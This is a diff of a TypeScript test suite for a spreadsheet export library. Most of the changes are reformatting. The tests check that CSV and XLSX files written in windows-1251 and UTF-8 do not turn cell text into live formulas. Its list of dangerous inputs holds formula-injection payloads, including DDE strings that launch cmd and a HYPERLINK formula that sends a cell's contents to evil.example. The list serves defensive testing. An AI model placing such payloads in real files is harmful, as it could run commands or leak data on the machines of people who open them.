@@ -41,7 +41,7 @@ const DANGEROUS = [
   "''=1+1",
   "=cmd|' /C calc'!A0",
   '=HYPERLINK("http://evil.example/?x="&A1;"Нажмите")',
-  "=DDE(\"cmd\";\"/C calc\";\"x\")",
+  '=DDE("cmd";"/C calc";"x")',
   "-2+3+cmd|' /C calc'!A0",
   "=1;=2",
 ];
@@ -82,20 +82,32 @@ describe.each(["windows-1251", "utf-8"] as const)("a CSV in %s", (encoding) => {
 
   it("comes back through our own reader", async () => {
     const texts = [...DANGEROUS, ...HARMLESS];
-    const expected = encoding === "utf-8" ? texts : texts.map((text) => restoreMissing(replaceMissing(text)));
+    const expected =
+      encoding === "utf-8" ? texts : texts.map((text) => restoreMissing(replaceMissing(text)));
     expect(await readBack(await saveCsv(encoding, texts))).toEqual(expected);
   });
 
   it("keeps phones as they are", async () => {
     const bytes = readFileSync(await saveCsv(encoding, ["+7 (916) 123 45 67", "+79161234567"]));
-    expect(new TextDecoder(encoding).decode(bytes)).toContain("\r\n+7 (916) 123 45 67;x\r\n+79161234567;x\r\n");
+    expect(new TextDecoder(encoding).decode(bytes)).toContain(
+      "\r\n+7 (916) 123 45 67;x\r\n+79161234567;x\r\n",
+    );
   });
 });
 
 describe("a CSV", () => {
   it("writes numbers with a comma, dates by days, and loses no letter windows-1251 lacks", async () => {
     const path = join(folder, "typed.csv");
-    await save(path, writeCsv(tableOf([[{ number: "-1234.5" }, { date: "2026-03-05" }], ["Сумма, ₽", "Әлия −5"], [null, ""]])));
+    await save(
+      path,
+      writeCsv(
+        tableOf([
+          [{ number: "-1234.5" }, { date: "2026-03-05" }],
+          ["Сумма, ₽", "Әлия −5"],
+          [null, ""],
+        ]),
+      ),
+    );
     const text = new TextDecoder("windows-1251").decode(readFileSync(path));
     expect(text).toBe('Текст;Ещё\r\n-1234,5;05.03.2026\r\nСумма, руб.;"&#1240;лия -5"\r\n;\r\n');
     expect((await readRows(path))[2]).toEqual(["Сумма, руб.", "Әлия -5"]);
@@ -103,10 +115,13 @@ describe("a CSV", () => {
 
   it("gives back any text at all", async () => {
     await fc.assert(
-      fc.asyncProperty(fc.array(fc.string({ unit: "grapheme", minLength: 1 }), { minLength: 1, maxLength: 20 }), async (texts) => {
-        const clean = texts.map((text) => `${text}.`);
-        expect(await readBack(await saveCsv("utf-8", clean))).toEqual(clean.map(dropControl));
-      }),
+      fc.asyncProperty(
+        fc.array(fc.string({ unit: "grapheme", minLength: 1 }), { minLength: 1, maxLength: 20 }),
+        async (texts) => {
+          const clean = texts.map((text) => `${text}.`);
+          expect(await readBack(await saveCsv("utf-8", clean))).toEqual(clean.map(dropControl));
+        },
+      ),
       { numRuns: 50 },
     );
   });
@@ -121,13 +136,29 @@ describe("a workbook", () => {
     expect(xml).not.toContain("<f>");
     expect(xml).not.toMatch(/<c r="A\d+"(?![^>]*t="inlineStr")/);
     // Our reader takes off one leading apostrophe of a guarded text: it cannot know that here nobody put it there.
-    expect(await readBack(path)).toEqual(texts.map((text) => (/^'+=/.test(text) ? text.slice(1) : text)));
+    expect(await readBack(path)).toEqual(
+      texts.map((text) => (/^'+=/.test(text) ? text.slice(1) : text)),
+    );
   });
 
   it("has exact numbers, dates, a hidden sheet for programs, and NUL nowhere", async () => {
     const path = join(folder, "typed.xlsx");
-    const meta: SheetTable = { name: "_meta", columns: [{ title: "kind", width: 10 }], batches: [[["payroll"]]], isHidden: true };
-    await save(path, writeXlsx([meta, tableOf([[{ number: "2400000.01" }, { date: "2026-03-05" }], ["a\u0000b", "007"]])]));
+    const meta: SheetTable = {
+      name: "_meta",
+      columns: [{ title: "kind", width: 10 }],
+      batches: [[["payroll"]]],
+      isHidden: true,
+    };
+    await save(
+      path,
+      writeXlsx([
+        meta,
+        tableOf([
+          [{ number: "2400000.01" }, { date: "2026-03-05" }],
+          ["a\u0000b", "007"],
+        ]),
+      ]),
+    );
     expect(await readRows(path)).toEqual([
       ["Текст", "Ещё"],
       ["2400000.01", "05.03.2026"],
@@ -138,8 +169,12 @@ describe("a workbook", () => {
   });
 
   it("refuses a number that is no number, instead of writing a broken file", async () => {
-    await expect(save(join(folder, "bad.xlsx"), writeXlsx([tableOf([[{ number: "=1+1" }]])]))).rejects.toThrow(RangeError);
-    await expect(save(join(folder, "bad.csv"), writeCsv(tableOf([[{ date: "=1+1" }]])))).rejects.toThrow(RangeError);
+    await expect(
+      save(join(folder, "bad.xlsx"), writeXlsx([tableOf([[{ number: "=1+1" }]])])),
+    ).rejects.toThrow(RangeError);
+    await expect(
+      save(join(folder, "bad.csv"), writeCsv(tableOf([[{ date: "=1+1" }]]))),
+    ).rejects.toThrow(RangeError);
   });
 });
 
@@ -152,7 +187,9 @@ describe.each(tableReaders())("texts of any kind, opened by $name", ({ name, ope
       { name: "texts.xlsx", bytes: await buffer(Readable.from(writeXlsx([table]))) },
       { name: "lines.csv", bytes: await buffer(Readable.from(writeCsv(table))) },
     ]);
-    first = opened.map((tables) => [...tables.values()][0]?.slice(1).map(([cell = null]) => cell) ?? []);
+    first = opened.map(
+      (tables) => [...tables.values()][0]?.slice(1).map(([cell = null]) => cell) ?? [],
+    );
   }, 120_000);
 
   it("are texts in a workbook, not one of them a formula or changed", () => {
@@ -164,12 +201,20 @@ describe.each(tableReaders())("texts of any kind, opened by $name", ({ name, ope
 
   it("run as no formula in a CSV", () => {
     expect(first[1]).toHaveLength(texts.length);
-    for (const cell of first[1]?.slice(0, DANGEROUS.length) ?? []) expect(String(cell)).not.toMatch(/^[\s"\u200B\uFEFF]*[=+\-@＝＋－＠]/);
+    for (const cell of first[1]?.slice(0, DANGEROUS.length) ?? [])
+      expect(String(cell)).not.toMatch(/^[\s"\u200B\uFEFF]*[=+\-@＝＋－＠]/);
   });
 });
 
 function tableOf(rows: SheetCell[][]): SheetTable {
-  return { name: "Реестр", columns: [{ title: "Текст", width: 20, isText: true }, { title: "Ещё", width: 10 }], batches: [rows] };
+  return {
+    name: "Реестр",
+    columns: [
+      { title: "Текст", width: 20, isText: true },
+      { title: "Ещё", width: 10 },
+    ],
+    batches: [rows],
+  };
 }
 
 async function saveCsv(encoding: "windows-1251" | "utf-8", texts: string[]): Promise<string> {
@@ -184,7 +229,8 @@ function save(path: string, chunks: AsyncIterable<Buffer>): Promise<void> {
 
 async function readRows(path: string): Promise<string[][]> {
   const rows: string[][] = [];
-  for await (const batch of readSpreadsheet(path, "Реестр")) rows.push(...batch.map(({ cells }) => cells));
+  for await (const batch of readSpreadsheet(path, "Реестр"))
+    rows.push(...batch.map(({ cells }) => cells));
   return rows;
 }
 
@@ -215,5 +261,7 @@ async function partText(path: string, name: string): Promise<string> {
 }
 
 function dropControl(text: string): string {
-  return [...text].filter((character) => !/[^\P{Cc}\t\n\r]|[\uFFFE\uFFFF]/u.test(character)).join("");
+  return [...text]
+    .filter((character) => !/[^\P{Cc}\t\n\r]|[\uFFFE\uFFFF]/u.test(character))
+    .join("");
 }
